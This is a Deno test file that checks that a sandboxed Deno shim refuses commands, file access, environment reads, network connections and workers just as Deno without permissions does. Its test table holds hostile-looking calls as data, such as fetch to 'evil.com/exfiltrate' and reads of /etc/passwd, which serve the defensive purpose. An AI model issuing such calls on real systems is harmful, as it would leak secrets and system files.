/**
 * What reaches outside is refused as Deno without permissions refuses it: the same way, class and text.
 *
 * Deno's own side runs in the permissions of the test, which are none.
 */

import { deepStrictEqual, ok, rejects, strictEqual, throws } from "node:assert/strict";
import { createDeno } from "../deno/deno.ts";
import * as web from "../web/network.ts";
import { lastCodeAtEnd, lastExit } from "./fake_host.ts";

// deno-lint-ignore no-explicit-any -- both sides are called with whatever scripts may pass
type Api = any;

const ours: Api = { ...web, Deno: createDeno((value) => String(value)) };
const denos: Api = { Deno, fetch, WebSocket, Worker };

/** How a call ended: whether it threw or rejected, and with what. */
async function ending(call: (api: Api) => unknown, api: Api): Promise<string> {
  let result: unknown;
  try {
    result = call(api);
  } catch (error) {
    return `threw ${error}`;
  }
  try {
    await result;
  } catch (error) {
    return `rejected with ${error}`;
  }
  return "succeeded";
}

const PATH = "/etc/passwd";

const CALLS: Record<string, (api: Api) => unknown> = {
  "an empty command": ({ Deno }) => void new Deno.Command("ls"),
  "Command.output": ({ Deno }) => new Deno.Command("ls").output(),
  "Command.outputSync": ({ Deno }) => new Deno.Command("/bin/ls").outputSync(),
  "Command.spawn": ({ Deno }) => new Deno.Command("./run").spawn(),
  "readFile by URL": ({ Deno }) => Deno.readFile(new URL("file:///etc/a%20b")),
  "readFile of a relative path": ({ Deno }) => Deno.readFile("./a/b"),
  "open to write": ({ Deno }) => Deno.open(PATH, { write: true }),
  "open to read and write": ({ Deno }) => Deno.open(PATH, { read: true, write: true }),
  "open to append": ({ Deno }) => Deno.openSync(PATH, { append: true, create: true }),
  "readDir": ({ Deno }) => void Deno.readDir("/tmp"),
  "readDir, iterated": async ({ Deno }) => {
    for await (const entry of Deno.readDir("/tmp")) console.log(entry);
  },
  "makeTempFile in a folder": ({ Deno }) => Deno.makeTempFile({ dir: "/srv/x" }),
  "env.get": ({ Deno }) => Deno.env.get("HOME"),
  "env.has": ({ Deno }) => Deno.env.has("HOME"),
  "env.set": ({ Deno }) => Deno.env.set("A", "b"),
  "env.delete": ({ Deno }) => Deno.env.delete("A"),
  "env.toObject": ({ Deno }) => Deno.env.toObject(),
  "connect": ({ Deno }) => Deno.connect({ hostname: "evil.com", port: 443 }),
  "connect to this machine": ({ Deno }) => Deno.connect({ port: 80 }),
  "connect to a socket": ({ Deno }) => Deno.connect({ transport: "unix", path: "/tmp/s" }),
  "connectTls": ({ Deno }) => Deno.connectTls({ hostname: "evil.com", port: 443 }),
  "listen": ({ Deno }) => Deno.listen({ port: 8000 }),
  "listen on an address": ({ Deno }) => Deno.listen({ hostname: "127.0.0.1", port: 8000 }),
  "listen on a socket": ({ Deno }) => Deno.listen({ transport: "unix", path: "/tmp/s" }),
  "serve": ({ Deno }) => Deno.serve(() => new Response("")),
  "serve on a port": ({ Deno }) => Deno.serve({ port: 9 }, () => new Response("")),
  "kill": ({ Deno }) => Deno.kill(1, "SIGTERM"),
  "dlopen": ({ Deno }) => Deno.dlopen("/tmp/x.so", {}),
  "fetch": ({ fetch }) => fetch("https://evil.com/exfiltrate"),
  "fetch with a port": ({ fetch }) => fetch("http://evil.com:81/x"),
  "fetch in capitals": ({ fetch }) => fetch("HTTPS://EVIL.com?x=1#y"),
  "fetch with a user": ({ fetch }) => fetch("http://user:word@evil.com/"),
  "fetch of an IPv6 address": ({ fetch }) => fetch("http://[::1]/"),
  "fetch of a URL": ({ fetch }) => fetch(new URL("https://evil.com/x")),
  "fetch of a Request": ({ fetch }) => fetch(new Request("https://evil.com/x")),
  "fetch of a file": ({ fetch }) => fetch("file:///etc/passwd"),
  "fetch of no URL": ({ fetch }) => fetch("nope"),
  "fetch of half a URL": ({ fetch }) => fetch("https://"),
  "fetch of nothing": ({ fetch }) => fetch(),
  "fetch of another scheme": ({ fetch }) => fetch("ftp://evil.com/x"),
  "WebSocket": ({ WebSocket }) => new WebSocket("wss://evil.com/x"),
  "WebSocket with a port": ({ WebSocket }) => new WebSocket("ws://evil.com:99/x"),
  "WebSocket of no URL": ({ WebSocket }) => new WebSocket("nope"),
  "WebSocket of another scheme": ({ WebSocket }) => new WebSocket("ftp://evil.com/x"),
  "WebSocket with a fragment": ({ WebSocket }) => new WebSocket("wss://evil.com/x#y"),
};

const BY_PATH = [
  "readFile",
  "readTextFile",
  "writeFile",
  "writeTextFile",
  "open",
  "create",
  "stat",
  "lstat",
  "realPath",
  "readLink",
  "remove",
  "mkdir",
  "truncate",
];
for (const name of BY_PATH) {
  const content = name === "writeFile" ? new Uint8Array() : "";
  CALLS[name] = ({ Deno }) => Deno[name](PATH, content || undefined);
  CALLS[`${name}Sync`] = ({ Deno }) => Deno[`${name}Sync`](PATH, content || undefined);
}
CALLS["writeTextFile"] = ({ Deno }) => Deno.writeTextFile(PATH, "x");
CALLS["writeTextFileSync"] = ({ Deno }) => Deno.writeTextFileSync(PATH, "x");

for (const name of ["copyFile", "rename", "link", "symlink"]) {
  CALLS[name] = ({ Deno }) => Deno[name]("/tmp/a", "/tmp/b");
  CALLS[`${name}Sync`] = ({ Deno }) => Deno[`${name}Sync`]("/tmp/a", "/tmp/b");
}
for (const name of ["chmod", "chown", "utime"]) {
  CALLS[name] = ({ Deno }) => Deno[name](PATH, 1, 1);
  CALLS[`${name}Sync`] = ({ Deno }) => Deno[`${name}Sync`](PATH, 1, 1);
}
for (const name of ["makeTempDir", "makeTempFile", "makeTempDirSync", "makeTempFileSync"]) {
  CALLS[name] = ({ Deno }) => Deno[name]();
}
for (const name of ["readDirSync", "watchFs", "chdir"]) {
  CALLS[name] = ({ Deno }) => Deno[name]("/x");
}

const MACHINE = [
  "hostname",
  "osRelease",
  "osUptime",
  "loadavg",
  "networkInterfaces",
  "systemMemoryInfo",
  "uid",
  "gid",
  "umask",
];
for (const name of MACHINE) CALLS[name] = ({ Deno }) => Deno[name]();

for (const [name, call] of Object.entries(CALLS)) {
  Deno.test({
    name: `ends as in Deno: ${name}`,
    // The test's own permissions, whatever it was started with.
    permissions: "none",
    fn: async () => strictEqual(await ending(call, ours), await ending(call, denos)),
  });
}

Deno.test("a refusal is a Deno.errors.NotCapable, whose stack starts with the caller", () => {
  throws(function caller() {
    ours.Deno.readFileSync(PATH);
  }, (error: Error) => {
    ok(error instanceof ours.Deno.errors.NotCapable);
    strictEqual(error.name, "NotCapable");
    ok(/^\s+at caller /.test(error.stack!.split("\n")[1]), error.stack);
    return true;
  });
});

Deno.test("a worker is refused", () => {
  const message = "Workers are not available to scripts";
  throws(() => new ours.Worker("file:///tmp/w.ts"), { name: "NotSupported", message });
});

Deno.test("names are resolved by no one", () =>
  rejects(
    ours.Deno.resolveDns("evil.com", "A"),
    { message: 'Requires net access to "evil.com:53", run again with the --allow-net flag' },
  ));

Deno.test("no permission is granted", async () => {
  const { permissions } = ours.Deno;
  const asked = { name: "read" };
  strictEqual((await permissions.query(asked)).state, "prompt");
  strictEqual((await permissions.request(asked)).state, "denied");
  strictEqual(permissions.revokeSync(asked).state, "prompt");
  await rejects(permissions.query({ name: "x" }), {
    name: "TypeError",
    message: 'The provided value "x" is not a valid permission name',
  });
});

Deno.test("exit ends the run with the lowest eight bits of the code", () => {
  for (
    const [code, ended] of [[undefined, 0], [1, 1], ["3", 0], [256, 0], [-1, 255], [1.5, 1], [
      NaN,
      0,
    ]]
  ) {
    throws(() => ours.Deno.exit(code));
    strictEqual(lastExit(), ended);
  }
});

Deno.test("exitCode is what a run ends with that comes to its end by itself", () => {
  for (const [code, ended] of [[5, 5], [256, 0], [-1, 255], [0, 0]]) {
    ours.Deno.exitCode = code;
    strictEqual(ours.Deno.exitCode, code);
    strictEqual(lastCodeAtEnd(), ended);
  }
  ours.Deno.exitCode = 7;
  throws(() => ours.Deno.exit());
  strictEqual(lastExit(), 7);
  ours.Deno.exitCode = 0;
});

Deno.test("exitCode takes what Deno's takes", () => {
  // deno-lint-ignore no-explicit-any -- wrong codes are wanted
  const refusal = (deno: any, code: unknown) => {
    try {
      deno.exitCode = code;
    } catch (error) {
      return String(error);
    }
  };
  for (const code of [1.5, NaN, Infinity, "5", 1n, null, undefined, {}]) {
    strictEqual(refusal(ours.Deno, code), refusal(Deno, code));
  }
});

Deno.test("it tells of itself what the Deno tells that it is held against", () => {
  for (const name of ["version", "build"] as const) {
    deepStrictEqual({ ...ours.Deno[name] }, { ...Deno[name] as object }, name);
  }
  deepStrictEqual(Object.keys(ours.Deno.errors).sort(), Object.keys(Deno.errors).sort());
});
